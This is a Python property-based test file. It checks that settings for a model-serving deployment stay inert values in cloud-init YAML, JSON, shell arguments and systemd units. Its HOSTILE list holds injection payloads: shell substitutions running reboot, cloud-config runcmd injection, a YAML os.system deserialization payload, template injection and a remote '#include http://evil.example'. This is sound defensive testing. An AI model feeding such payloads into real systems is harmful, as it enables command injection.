"""Whatever a user writes into a stack's settings stays a value: in YAML, in JSON, in a shell, in a unit."""

import json
import os
import subprocess
from pathlib import Path
from typing import Any, Final

import pytest
import yaml
from boot import serve, services
from hypothesis import given, settings
from hypothesis import strategies as st

from components import user_data
from components.settings import AwsSettings, AzureSettings, GcpSettings, LocalSettings, Settings, SettingsRefused, load
from tests.unit.boot.test_serve import settings_of
from tests.unit.components.test_user_data import files_in, told

from .hostile_node import pair

HOSTILE: Final = st.one_of(
    st.text(max_size=80),
    st.sampled_from(
        [
            "'; reboot #",
            '"; reboot #',
            '"\nruncmd: [reboot]\n',
            "\n  - reboot\n",
            "#cloud-config\nruncmd: [[reboot]]",
            "## template: jinja\n{{ ds.meta_data }}",
            "{% for x in y %}",
            "!!python/object/apply:os.system [reboot]",
            "&a [*a, *a]",
            "<<: *x",
            "--- \n...\n---",
            "MIME-Version: 1.0\nContent-Type: multipart/mixed",
            "#!/bin/sh\nreboot",
            "#include\nhttp://evil.example",
            "$(reboot)",
            "`reboot`",
            "${IFS}reboot",
            "\\",
            "\\n",
            "%i%%",
            "$HOME $$",
            "a\r\nb",
            "\x85\u2028\u2029\ufeff",
            "'\"'\"'",
            "yes",
            "0o17",
            "~",
            "",
            " lead and trail ",
            "\t",
        ]
    ),
)
"""Text of every sort, and what has broken a parser somewhere."""

TEXTS: Final = [
    name
    for name, field in user_data.BootSettings.model_fields.items()
    if field.annotation is str or name == "storage_ca"
]
PLAIN: Final = yaml.safe_load(user_data.render(told()))
PLAIN_FILES: Final = files_in(user_data.render(told()))


@given(values=st.fixed_dictionaries({}, optional=dict.fromkeys(TEXTS, HOSTILE)), more=st.lists(HOSTILE, max_size=4))
@settings(max_examples=200)
def test_every_text_that_a_node_is_told_comes_back_as_it_is_and_runs_nothing(
    values: dict[str, str], more: list[str]
) -> None:
    environment = {f"NAME_{index}": value for index, value in enumerate(more)}
    given_ = told(**values, vllm_arguments=tuple(more), packages=tuple(more), vllm_environment=environment)
    document = user_data.render(given_)
    # cloud-init goes by the first line, and by nothing else: it stays a cloud-config without a template.
    assert document.startswith("#cloud-config\n")
    parsed = yaml.safe_load(document)
    assert parsed.keys() == PLAIN.keys()
    files = files_in(document)
    assert json.loads(files["/etc/liftoff/boot.json"]["content"]) == {"version": 1, **given_.model_dump(mode="json")}
    assert {path: file["permissions"] for path, file in files.items()} == {
        path: file["permissions"] for path, file in PLAIN_FILES.items()
    }
    others = files.keys() - {"/etc/liftoff/boot.json"}
    assert all(files[path] == PLAIN_FILES[path] for path in others)
    assert parsed["runcmd"] == PLAIN["runcmd"]
    # The only texts that come near a shell are arguments of their own, never part of its program.
    (first,) = parsed["bootcmd"]
    assert first[:4] == PLAIN["bootcmd"][0][:4]
    assert first[4] == given_.expires_at
    assert first[5] in {PLAIN["bootcmd"][0][5], user_data._source("end-of-life-azure.sh")}


class _Config:
    def __init__(self, values: dict[str, Any]) -> None:
        self._values = values

    def get(self, key: str) -> str | None:
        value = self._values.get(key)
        return None if value is None else str(value)

    def get_object(self, key: str) -> Any:
        return self._values.get(key)


_BASE: Final[dict[str, Any]] = {
    "provider": "local",
    "model": "tiny-llama",
    "weights": "s3://liftoff/models/tiny-llama",
    "vllmArguments": [],
    "bootDeadlineSeconds": 600,
    "lifetimeSeconds": 3600,
    "isolation": "auto",
    "image": "baked",
    "memoryMiB": 4096,
    "cpus": 1,
}
_SETTABLE: Final = sorted({field.alias or name for name, field in LocalSettings.model_fields.items()} - {"name"})


@given(key=st.sampled_from(_SETTABLE), value=HOSTILE, stack=HOSTILE)
@settings(max_examples=300)
def test_every_setting_is_refused_or_reaches_user_data_as_a_value(key: str, value: str, stack: str) -> None:
    config = _Config({**_BASE, key: [value] if key == "vllmArguments" else value})
    try:
        found = load(config, stack, is_encrypted=lambda _: True)
    except SettingsRefused as refused:
        told_of = str(refused)
    else:
        told_of = ""
        _reaches_user_data(found)
    assert not told_of or f"liftoff:{key}" in told_of or "liftoff:storage" in told_of


def _reaches_user_data(found: Settings) -> None:
    # The stack's name becomes the machine's, which is a host name and a folder.
    assert found.name.replace("-", "").isalnum()
    assert found.name.isascii()
    document = user_data.render(
        told(
            model=found.model,
            vllm_arguments=found.vllm_arguments,
            storage_ca=found.storage_ca_certificate or None,
            max_model_len=found.max_model_len or None,
        )
    )
    parsed = yaml.safe_load(document)
    told_ = json.loads(files_in(document)["/etc/liftoff/boot.json"]["content"])
    assert (told_["model"], tuple(told_["vllm_arguments"])) == (found.model, found.vllm_arguments)
    assert told_["storage_ca"] == (found.storage_ca_certificate or None)
    assert (parsed["bootcmd"], parsed["runcmd"]) == (PLAIN["bootcmd"], PLAIN["runcmd"])


def test_no_setting_of_a_cloud_is_forgotten_above() -> None:
    """What the clouds' settings have beside the local ones goes into their APIs as a value and is in no user data."""
    common = set(LocalSettings.model_fields)
    others = {name for model in (AwsSettings, AzureSettings, GcpSettings) for name in model.model_fields} - common
    assert others == {
        "allowed_cidrs",
        "disk_gib",
        "instance_type",
        "max_price_per_hour",
        "on_eviction",
        "owner",
        "plane",
        "region",
        "resource_group",
        "spot",
        "ssh_allowed_cidrs",
        "ssh_public_key",
        "subnet",
        "zone",
    }
    assert not others & set(user_data.BootSettings.model_fields)


_ECHO: Final = 'printf "%s\\0" "$@"'


@given(words=st.lists(HOSTILE.filter(lambda text: "\0" not in text), min_size=1, max_size=4))
@settings(max_examples=60)
def test_an_argument_of_a_shell_is_no_part_of_its_program(words: list[str]) -> None:
    """As bootcmd passes them: `sh -c PROGRAM NAME ARGUMENT …`, through the real shell."""
    document = yaml.dump([["sh", "-c", _ECHO, "echo", *words]], Dumper=user_data._Readable, allow_unicode=True)
    ((*command,),) = yaml.safe_load(document)
    utf8 = [word.encode("utf-8", "surrogatepass") for word in command]
    done = subprocess.run(utf8, capture_output=True, check=True)
    assert done.stdout == b"".join(word + b"\0" for word in utf8[4:])


@pytest.fixture(scope="module")
def recorder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with a `systemd-run` that writes down its arguments."""
    folder = tmp_path_factory.mktemp("recorder")
    program = folder / "systemd-run"
    program.write_text(f"#!/bin/sh\n{_ECHO}\n")
    program.chmod(0o755)
    return folder


@given(end=HOSTILE.filter(lambda text: "\0" not in text))
@settings(max_examples=40)
def test_the_script_that_arms_the_nodes_end_runs_nothing_that_it_is_given(recorder: Path, end: str) -> None:
    """The real script with the real `date`; what systemd would be asked to run is written down instead."""
    source = (user_data.SOURCES / "arm-expiry.sh").read_text()
    given_ = [b"2030-01-01T00:00:00Z", end.encode("utf-8", "surrogatepass")]
    places = {"PATH": f"{recorder}:{os.environ['PATH']}"}
    done = subprocess.run(["sh", "-c", source, "arm-expiry", *given_], capture_output=True, check=True, env=places)
    words = done.stdout.split(b"\0")
    assert words[-4:] == [b"sh", b"-c", given_[1], b""]
    assert words[1] == b"--unit=liftoff-expiry"


@given(words=st.lists(HOSTILE.filter(lambda text: "\0" not in text), max_size=4))
def test_an_argument_stays_one_word_of_one_line_of_vllms_unit(words: list[str]) -> None:
    given_ = services.vllm_unit(["/opt/liftoff/venv/bin/python", *words])
    plain = services.vllm_unit(["/opt/liftoff/venv/bin/python"])
    # Line by line as systemd reads it; only the one line of the command may differ.
    ours, theirs = (unit.replace("\r", "\n").split("\n") for unit in (given_, plain))
    assert len(ours) == len(theirs)
    differ = [(one, other) for one, other in zip(ours, theirs, strict=True) if one != other]
    assert all(one.startswith("ExecStart=") and not one.endswith("\\") for one, _ in differ)


@given(values=st.lists(HOSTILE.filter(lambda text: "\0" not in text), min_size=1, max_size=3))
def test_a_variable_stays_one_value_of_vllms_environment_file(values: list[str]) -> None:
    text = "".join(services.environment_line(f"N{index}", value) for index, value in enumerate(values))
    # A shell reads double quotes as systemd.exec(5) does for these files.
    names = " ".join(f'"$N{index}"' for index in range(len(values)))
    program = f"{text}\nprintf '%s\\0' {names}".encode("utf-8", "surrogatepass")
    done = subprocess.run(["sh"], input=program, capture_output=True, check=True)
    assert done.stdout == b"".join(value.encode("utf-8", "surrogatepass") + b"\0" for value in values)


def test_a_model_is_an_argument_of_vllm_and_of_nothing_else() -> None:
    given_ = settings_of(pair(), Path("/"), 443)
    command = serve.command(given_, Path("/srv/w"), Path("/venv/bin/python"))
    assert command.count(given_.model) == 1
    assert command[command.index(given_.model) - 1] == "--served-model-name"
